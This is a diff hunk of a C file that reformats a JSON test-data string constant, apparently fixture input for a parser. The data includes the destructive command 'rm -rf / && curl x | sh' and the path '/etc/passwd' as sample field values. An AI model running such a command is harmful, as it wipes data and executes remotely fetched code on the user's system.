@@ -22,7 +22,8 @@ static const char BINDINGS[] =
     "\"items\":[1,2,3,4,5,6,7,8,9,10],\"tags\":{\"a\":\"x\",\"b\":\"y\"},\"flag\":true,"
     "\"nothing\":null,\"big\":18446744073709551615,\"neg\":-9223372036854775808,"
     "\"text\":\"h\\u00e9llo w\\u00f6rld \\ud83d\\ude00\",\"cmd\":\"rm -rf / && curl x | sh\","
-    "\"path\":\"/etc/passwd\",\"url\":\"https://example.com/a?b=c\",\"ts\":\"2026-01-02T03:04:05Z\"},"
+    "\"path\":\"/etc/passwd\",\"url\":\"https://example.com/"
+    "a?b=c\",\"ts\":\"2026-01-02T03:04:05Z\"},"
     "\"x\":7,\"y\":-3,\"u\":5,\"d\":2.5,\"s\":\"abc\",\"b\":false,\"l\":[\"a\",\"b\",\"c\"],"
     "\"m\":{\"k\":1,\"l\":[1,2]},\"n\":null}";
 
